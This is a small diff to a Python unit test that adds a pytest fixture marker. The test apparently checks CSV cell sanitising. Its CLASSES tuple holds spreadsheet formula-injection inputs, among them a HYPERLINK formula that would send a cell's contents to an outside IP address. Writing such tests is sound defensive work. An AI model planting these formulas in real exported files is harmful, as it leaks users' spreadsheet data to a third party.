@@ -15,6 +15,8 @@ from moma_core.runtime.csv_text import plain_cell
 from moma_core.teacher.card.reference_patch import synthetic_patch
 from tests.unit.client.student.test_files import CARD
 
+pytestmark = pytest.mark.usefixtures("small_pictures")
+
 CLASSES = ('=HYPERLINK("http://192.0.2.1/"&A1)', "@SUM(A1)")
 
 
